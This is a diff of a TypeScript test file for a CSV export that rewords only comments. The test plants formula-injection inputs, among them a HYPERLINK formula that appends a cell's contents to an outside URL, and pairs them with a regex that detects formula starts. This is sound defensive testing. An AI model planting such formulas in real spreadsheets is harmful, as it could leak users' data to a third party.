@@ -10,7 +10,7 @@ import { failures } from './support/every.js';
 import { everyList, type List } from './support/lists.js';
 import { buildWorld, type World } from './support/world.js';
 
-/** What a spreadsheet would take for a formula, and what breaks careless files. */
+/** Texts that a spreadsheet would take for a formula, and that break carelessly written files. */
 const formula = '=HYPERLINK("https://example.org/?"&A1,"x")';
 const hostile = [
   ...[formula, '+1+1', '-2+3', '@SUM(A1)', 'a "quoted", word', 'عربي، فاصلة'],
@@ -143,7 +143,7 @@ const csv = (list: List, parameters = {}) =>
 const plain = (list: List) => fileOf(list.client, list.path);
 
 const uuid = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
-/** The name of the record that the id points to; those of a student and of an enrollment share one. */
+/** The heading of the record that the id refers to; student and enrollment share one. */
 const nameOfId: Record<string, RegExp> = {
   'Student Record ID': /^(Student (Number|Name)|First Name)$/,
   'Enrollment Record ID': /^(Course|Student Name|First Name)$/,
@@ -162,7 +162,7 @@ const nameOfId: Record<string, RegExp> = {
   'Plan Record ID': /^(Paid For|Description)$/,
   'Subject Record ID': /^Subject Label$/,
 };
-/** They point to no record of their own: the row itself, a call, and what an outside system numbers. */
+/** These ids refer to no separate record: they are the row itself, a call, or a number of an external system. */
 const ownIds = ['Record ID', 'Request ID', 'Rule ID', 'TFC Plan ID'];
 
 /** The headings that a reader of the file can't understand. */
@@ -189,16 +189,16 @@ function unreadable([header, ...lines]: string[][]): string[] {
 const cellOf = (value: unknown): string =>
   value === null ? '' : typeof value === 'string' ? value : JSON.stringify(value);
 
-/** A field of the file, or a part of it that a spreadsheet with another separator takes for a field. */
+/** Whether a field of the file is a formula, or a part of it is, for a spreadsheet with another separator. */
 const startsFormula = (cell: string): boolean =>
   !/^-?\d+(\.\d+)?$/.test(cell) &&
   (/^[\t\r\n]/.test(cell) || cell.split(/[,;|\t\r\n]/).some((part) => /^[\s"]*[=+\-@＝＋－＠]/.test(part)));
 
-/** The value of a field: an apostrophe marks each start of a formula. */
+/** The value of a field, without the apostrophes at each start of a formula. */
 const unescaped = (cell: string): string =>
   cell.replace(/^'(?=[\t\r\n])/, '').replace(/(^|[,;|\t\r\n])([\s"]*)'(?=[=+\-@＝＋－＠])/g, '$1$2');
 
-/** Hostile words wherever an office types words. */
+/** Plants hostile texts in every field that an office fills in. */
 async function plant(
   campus: Campus,
   { term, students: [ash], enrollment, plan, ...world }: World,
